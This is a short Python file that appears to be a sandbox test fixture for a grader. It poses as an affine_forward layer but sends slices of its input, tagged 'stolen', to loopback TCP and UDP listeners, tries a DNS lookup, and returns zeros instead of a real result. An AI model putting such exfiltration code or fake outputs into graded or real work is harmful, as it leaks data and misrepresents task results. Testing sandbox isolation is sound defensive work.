# target: layers.affine_forward | expect: mismatch | needs: namespaces
"""Send the inputs to a listener on the grader's loopback (TCP and UDP), and try DNS."""
import socket

import numpy as np


def affine_forward(x, w, b):
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(1.0)
            s.connect((host, __PORT__))
            s.sendall(b"stolen " + x.tobytes()[:64])
            s.close()
        except OSError:
            pass
        try:
            u = socket.socket(family, socket.SOCK_DGRAM)
            u.sendto(b"stolen", (host, __PORT__))
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
    except OSError:
        pass
    return np.zeros((x.shape[0], w.shape[1])), None
